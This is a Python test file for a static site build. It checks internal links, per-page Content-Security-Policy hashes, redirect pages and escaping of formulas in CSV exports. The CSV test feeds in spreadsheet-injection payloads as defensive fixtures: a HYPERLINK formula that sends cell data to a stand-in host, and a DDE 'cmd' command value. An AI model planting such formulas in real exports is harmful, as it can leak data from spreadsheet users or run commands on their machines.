"""Links that never break and pages that run nothing but their own code, on the built site."""

from __future__ import annotations

import base64
import copy
import csv
import datetime
import hashlib
import html.parser
import io
import pathlib
import posixpath
import re
import urllib.parse

from macros.csp import NO_SCRIPT, policy_for
from macros.opendata import measures_csv, measures_records
from macros.registry import read_registry
from macros.render import SiteModel

# Script types a browser runs; others (application/json: Material's configuration) are data.
EXECUTABLE = {"", "text/javascript", "application/javascript", "module"}


class _Page(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=False)  # script bodies exactly as served: they are hashed
        self.ids, self.links, self.csp = set(), [], None
        self.inline_scripts, self.handlers, self.scripts = [], [], 0
        self._script = None  # the inline script being read: its chunks

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "id" in attrs:
            self.ids.add(attrs["id"])
        if tag == "a" and attrs.get("name"):
            self.ids.add(attrs["name"])
        if tag == "a" and attrs.get("href"):
            self.links.append(attrs["href"])
        if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
            self.csp = attrs["content"]
        if tag == "script":
            self.scripts += 1
        if tag == "script" and "src" not in attrs and (attrs.get("type") or "").lower() in EXECUTABLE:
            self._script = []
        self.handlers += [f"<{tag} {k}>" for k, v in attrs.items()
                          if k.startswith("on") or (v or "").strip().lower().startswith("javascript:")]

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.inline_scripts.append("".join(self._script))
            self._script = None


def _pages(site: pathlib.Path) -> dict[str, _Page]:
    pages = {}
    for path in site.rglob("*.html"):
        parser = _Page()
        parser.feed(path.read_text(encoding="utf-8"))
        pages[path.relative_to(site).as_posix()] = parser
    return pages


def _target(page: str, href: str) -> tuple[str, str]:
    """The site file a relative link points to, and its fragment."""
    url = urllib.parse.urlsplit(href)
    path = posixpath.normpath(posixpath.join(posixpath.dirname(page), urllib.parse.unquote(url.path))) \
        if url.path else page
    if url.path.endswith("/") or path.endswith("/") or not posixpath.splitext(path)[1]:
        path = posixpath.join(path, "index.html")
    return path, urllib.parse.unquote(url.fragment)


def test_every_internal_anchor_exists(built_site):
    pages = _pages(built_site)
    broken, checked = [], 0
    for name, page in pages.items():
        for href in page.links:
            if re.match(r"[a-z][a-z0-9+.-]*:", href) or href.startswith("//"):
                continue
            path, fragment = _target(name, href)
            if not fragment or not path.endswith(".html"):
                continue
            checked += 1
            if path not in pages:
                broken.append(f"{name}: {href} (no page)")
            elif fragment not in pages[path].ids:
                broken.append(f"{name}: {href} (no #{fragment})")
    assert broken == [], broken[:20]
    assert checked > 500  # every measure section is linked to by anchor from several pages


def test_every_page_has_a_strict_content_security_policy(built_site):
    for name, page in _pages(built_site).items():
        if "http-equiv=\"refresh\"" in (built_site / name).read_text(encoding="utf-8"):
            continue  # redirect pages run no script at all
        assert page.csp, name
        script_src = next(d for d in page.csp.split("; ") if d.startswith("script-src"))
        assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src, name
        assert "http" not in page.csp, name  # no other origin


def test_the_policys_hashes_are_exactly_those_of_each_pages_inline_scripts(built_site):
    """Each 'sha256-…' of script-src is the hash of one inline script of that page, and every inline
    script has its hash there: a script the build changed after hashing would not run, and a stray hash
    would allow a script that is not on the page."""
    checked = no_script = 0
    for name, page in _pages(built_site).items():
        if page.csp is None:
            assert page.inline_scripts == [], name  # redirect pages: no policy, and nothing to run
            continue
        script_src = next(d for d in page.csp.split("; ") if d.startswith("script-src")).split()[1:]
        allowed = {s[len("'sha256-"):-1] for s in script_src if s.startswith("'sha256-")}
        actual = {base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode()
                  for body in page.inline_scripts}
        assert allowed == actual, name
        if page.scripts == 0:  # a page without scripts (an embed, a redirect) allows none
            assert script_src == ["'none'"] and page.csp == NO_SCRIPT, name
            no_script += 1
        else:
            assert set(script_src) - {f"'sha256-{h}'" for h in allowed} == {"'self'", "'wasm-unsafe-eval'"}, name
        assert page.handlers == [], (name, page.handlers[:3])  # a handler attribute no hash can allow
        checked += len(actual)
    assert checked > 200  # Material's inline scripts on every page, the checker's early start on two
    assert no_script >= 2 * len(list(built_site.glob("policies/*/*/embed/index.html")))  # the embeds at least


def test_the_policy_allows_only_the_pages_own_inline_scripts():
    policy = policy_for('<script>a()</script><script src="x.js"></script><script type="application/json">{}</script>')
    script_src = next(d for d in policy.split("; ") if d.startswith("script-src")).split()
    assert len([s for s in script_src if s.startswith("'sha256-")]) == 1
    assert "'wasm-unsafe-eval'" in script_src  # Pyodide compiles WebAssembly
    assert policy_for("<p>Embed this page: its Content-Security-Policy is strict.</p>") == NO_SCRIPT


def test_a_page_that_mentions_the_policy_in_its_text_still_gets_one(tmp_path):
    """The policy is added unless the page already has the meta tag: the words in a page's text are not it."""
    from macros.csp import add_policy
    page = tmp_path / "index.html"
    page.write_text('<html><head><meta charset="utf-8"></head><body><script>a()</script>'
                    "<p>The host page's Content-Security-Policy needs no change.</p></body></html>", encoding="utf-8")
    assert add_policy(tmp_path) == 1
    assert '<meta http-equiv="Content-Security-Policy" content="default-src' in page.read_text(encoding="utf-8")


def test_the_build_writes_a_redirect_page_for_each_redirect_of_the_registry(built_site, built_registry):
    """The registry the build read (the real one plus a moved measure, tests/conftest.py): each old id has
    a page in both languages that sends the reader to the new id's page, which exists."""
    redirects = read_registry(built_registry)[0]["redirects"]
    assert "ft-ai-2025/art-99" in redirects
    for old, new in redirects.items():
        for lang in ("", "en/"):
            rel = f"{lang}policies/{old}/"
            page = (built_site / rel / "index.html").read_text(encoding="utf-8")
            target = re.search(r'http-equiv="refresh" content="0; url=([^"]+)"', page).group(1)
            resolved = posixpath.normpath(posixpath.join(rel, target))
            assert resolved == f"{lang}policies/{new}", (rel, target)
            assert (built_site / resolved / "index.html").is_file(), (rel, target)
            assert f'href="{target}"' in page  # a plain link too, for those who block refresh


def test_a_spreadsheet_formula_in_the_data_reaches_the_csv_as_text(policies):
    """Titles and texts starting with =, +, -, @ (a formula to Excel) are written with an apostrophe."""
    policy = copy.deepcopy(next(p for p in policies if p["id"] == "ft-ai-2025"))
    measure = policy["measures"][0]
    measure["title"] = {"zh": "=1+1", "en": '=HYPERLINK("http://x.test/?"&A1,"click")'}
    measure["text"] = {"zh": "@SUM(A1:A9)", "en": "+cmd|' /C calc'!A0"}
    measure["number"] = {"zh": "-2+3", "en": "\t=1"}
    rows = list(csv.DictReader(io.StringIO(measures_csv(measures_records(SiteModel([policy],
                                                                                       datetime.date(2026, 1, 1)))))))
    row = next(r for r in rows if r["id"] == measure["id"])
    assert (row["title_zh"], row["title_en"]) == ("'=1+1", '\'=HYPERLINK("http://x.test/?"&A1,"click")')
    assert (row["text_zh"], row["text_en"], row["number_zh"], row["number_en"]) == (
        "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0", "'-2+3", "'\t=1")
    assert row["largest_amount_yuan"].isdigit()  # numbers stay numbers
